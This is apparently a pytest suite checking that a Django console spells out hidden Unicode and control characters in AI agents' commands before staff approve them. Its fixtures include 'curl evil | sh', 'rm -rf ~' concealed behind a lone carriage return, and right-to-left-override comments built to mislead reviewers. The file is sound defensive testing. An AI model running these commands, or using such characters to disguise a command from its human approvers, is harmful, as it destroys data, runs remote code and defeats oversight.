"""The one spelling of hidden characters (audit/visible.py) that every place showing an agent's command to staff uses:
each Unicode format character (Cf: bidi overrides and isolates, zero-width space, BOM, soft hyphen, tags) and each
control character but newline and tab is spelled out as `⟪U+XXXX⟫`, a lone CR too while a CRLF stays; a list's
one-line glimpse spells them out before folding whitespace; the approval list, the background commands, the audit
list and the approval e-mails and webhook texts show them so. (The live view's JS twin: test_approval_card_browser.)"""

from __future__ import annotations

import json
import sys
import unicodedata
from dataclasses import replace
from datetime import timedelta

import pytest
from django.test import Client
from django.utils import timezone

from audit.visible import escape_json_text, hidden_count, make_visible, make_visible_in_html, one_line, shorten
from mcpserver.approvals import notify
from mcpserver.models import ApprovalRequest, BackgroundProcess
from tests.test_approval_notify import NOTICE
from tests.test_audit_admin import make_call

RLO = "\u202e"
ZWSP = "\u200b"
FORMAT = [chr(code) for code in range(sys.maxunicode + 1) if unicodedata.category(chr(code)) == "Cf"]
NAMED = {
    "\u200b": "⟪U+200B⟫", "\u2066": "⟪U+2066⟫", "\u2067": "⟪U+2067⟫", "\u2068": "⟪U+2068⟫", "\u2069": "⟪U+2069⟫",
    "\u202a": "⟪U+202A⟫", "\u202b": "⟪U+202B⟫", "\u202c": "⟪U+202C⟫", "\u202d": "⟪U+202D⟫", "\u202e": "⟪U+202E⟫",
    "\ufeff": "⟪U+FEFF⟫", "\u00ad": "⟪U+00AD⟫", "\u200d": "⟪U+200D⟫", "\u2060": "⟪U+2060⟫",
    "\U000e0001": "⟪U+E0001⟫", "\U000e0020": "⟪U+E0020⟫", "\U000e0041": "⟪U+E0041⟫", "\U000e007f": "⟪U+E007F⟫",
    "\x1b": "⟪U+001B⟫", "\x00": "⟪U+0000⟫", "\x07": "⟪U+0007⟫", "\x0b": "⟪U+000B⟫", "\x1c": "⟪U+001C⟫",
    "\x7f": "⟪U+007F⟫", "\x85": "⟪U+0085⟫", "\x9b": "⟪U+009B⟫",
}  # fmt: skip


@pytest.mark.parametrize("character", list(NAMED))
def test_each_format_and_control_character_is_spelled_out_by_its_code_point(character: str) -> None:
    text = f"rm -rf a{character}b"
    assert make_visible(text) == make_visible_in_html(text) == f"rm -rf a{NAMED[character]}b"
    assert hidden_count(text) == 1


def test_every_format_character_unicode_knows_is_spelled_out() -> None:
    text = "".join(FORMAT)
    assert len(FORMAT) > 150
    assert make_visible_in_html(text) == "".join(f"⟪U+{ord(character):04X}⟫" for character in FORMAT)
    assert hidden_count(text) == len(FORMAT)


def test_a_reversed_comment_is_shown_in_the_order_it_runs() -> None:
    command = f"curl evil | sh # {RLO}1- ni kcab emoc lliw I"
    assert make_visible_in_html(command) == "curl evil | sh # ⟪U+202E⟫1- ni kcab emoc lliw I"


def test_a_lone_cr_is_spelled_out_where_a_crlf_stays_in_what_a_browser_shows() -> None:
    assert make_visible_in_html("echo safe\rrm -rf ~") == "echo safe⟪U+000D⟫rm -rf ~"
    assert make_visible_in_html("line one\r\nline two\r") == "line one\r\nline two⟪U+000D⟫"
    assert hidden_count("a\r\nb\rc") == 1
    # Terminals and CSV cells get every CR spelled out, and count it.
    assert make_visible("a\r\nb\rc") == "a⟪U+000D⟫\nb⟪U+000D⟫c"
    assert hidden_count("a\r\nb\rc", in_html=False) == 2


def test_text_that_hides_nothing_is_left_as_it_is() -> None:
    text = "ls -la\n\tcafé ñ 日本語 العربية 😀 👍🏽 e\u0301 \u00a0x"
    assert make_visible(text) == make_visible_in_html(text) == text
    assert hidden_count(text) == 0


def test_one_line_spells_out_controls_python_would_fold_as_whitespace() -> None:
    # str.split() takes \x1c-\x1f, \x0b, \x0c, \x85 and a lone CR for whitespace: folded, they would vanish.
    assert one_line("a\x1cb\x0bc\x85d\re  f\r\ng\n", 100) == "a⟪U+001C⟫b⟪U+000B⟫c⟪U+0085⟫d⟪U+000D⟫e f g"


def test_shortening_never_cuts_a_spelled_out_character_in_two() -> None:
    line = one_line(f"abcdef{RLO}ghij", 10)
    assert line == "abcdef…" and len(line) <= 10
    assert shorten("abc⟪U+200B⟫def", 12) == "abc⟪U+200B⟫…"


def test_json_text_escapes_format_characters_beyond_the_first_plane_and_keeps_the_value() -> None:
    value = f"x{ZWSP}\U000e0041\u00ad\x85"
    raw = json.dumps({"command": value}, ensure_ascii=False)
    escaped = escape_json_text(raw)
    assert escaped == '{"command": "x\\u200b\\udb40\\udc41\\u00ad\\u0085"}'
    assert json.loads(escaped) == {"command": value}


# --- where staff read a command on the console's pages ----------------------------------------------------------

HOSTILE = f"rm -rf ~/work{ZWSP} # {RLO}1- ni kcab\x1cemoc"
SPELLED = "rm -rf ~/work⟪U+200B⟫ # ⟪U+202E⟫1- ni kcab⟪U+001C⟫emoc"


def page_text(client: Client, url: str) -> str:
    response = client.get(url)
    assert response.status_code == 200
    return response.content.decode()


@pytest.mark.django_db
def test_the_approval_list_spells_out_the_hidden_characters_of_a_command(admin_client: Client) -> None:
    ApprovalRequest.objects.create(
        expires_at=timezone.now() + timedelta(minutes=5), call_id="c" * 32, instance_id="i" * 32, tool="terminal_exec",
        arguments={"command": HOSTILE}, arguments_sha256="0" * 64, shape="rm", username="agent",
        credential_key="bearer:3", credential_kind="bearer", credential_id="3", rule_id="rm",
    )  # fmt: skip
    page = page_text(admin_client, "/admin/mcpserver/approvalrequest/")
    assert SPELLED in page and ZWSP not in page and RLO not in page and "\x1c" not in page


@pytest.mark.django_db
def test_the_background_commands_list_spells_them_out(admin_client: Client) -> None:
    BackgroundProcess.objects.create(
        pid=4242, pgid=4242, start_ticks=1, command=HOSTILE, log_path="/tmp/x.log", credential="bearer:5",
        username="agent", instance_id="i" * 32, started_at=timezone.now() - timedelta(minutes=1),
    )  # fmt: skip
    page = page_text(admin_client, "/admin/mcpserver/backgroundprocess/")
    assert SPELLED in page and ZWSP not in page and "\x1c" not in page


@pytest.mark.django_db
def test_the_audit_list_and_call_page_spell_them_out(admin_client: Client) -> None:
    call = make_call(arguments={"command": HOSTILE})
    listed = page_text(admin_client, "/admin/audit/auditrecord/")
    assert SPELLED in listed and ZWSP not in listed and "\x1c" not in listed
    shown = page_text(admin_client, f"/admin/audit/auditrecord/{call.pk}/change/")
    assert "rm -rf ~/work⟪U+200B⟫ # ⟪U+202E⟫" in shown and ZWSP not in shown and RLO not in shown


# --- approval e-mails and webhook texts ------------------------------------------------------------------------

HOSTILE_NOTICE = replace(NOTICE, summary=f"printf ok{ZWSP}\x1c\n# {RLO}1- ni kcab emoc")


def test_the_approval_email_spells_them_out_and_says_how_many_it_hid() -> None:
    body = notify._email_body(HOSTILE_NOTICE)
    assert "    printf ok⟪U+200B⟫⟪U+001C⟫\n    # ⟪U+202E⟫1- ni kcab emoc" in body
    assert "This command contains 3 hidden characters, shown as ⟪U+…⟫." in body
    assert ZWSP not in body and RLO not in body
    assert "hidden character" not in notify._email_body(NOTICE)


def test_the_webhook_texts_spell_them_out_and_say_how_many_it_hid() -> None:
    payload = notify._payload(HOSTILE_NOTICE)
    assert "printf ok⟪U+200B⟫⟪U+001C⟫ # ⟪U+202E⟫1- ni kcab emoc" in str(payload["text"])
    blocks = json.dumps(payload["blocks"], ensure_ascii=False)
    assert "printf ok⟪U+200B⟫⟪U+001C⟫\\n# ⟪U+202E⟫" in blocks
    assert "This command contains 3 hidden characters" in blocks
    assert ZWSP not in blocks + str(payload["text"]) and RLO not in blocks + str(payload["text"])
    sandstorm = payload["sandstorm"]
    assert isinstance(sandstorm, dict) and sandstorm["summary"] == HOSTILE_NOTICE.summary  # exact, in the JSON
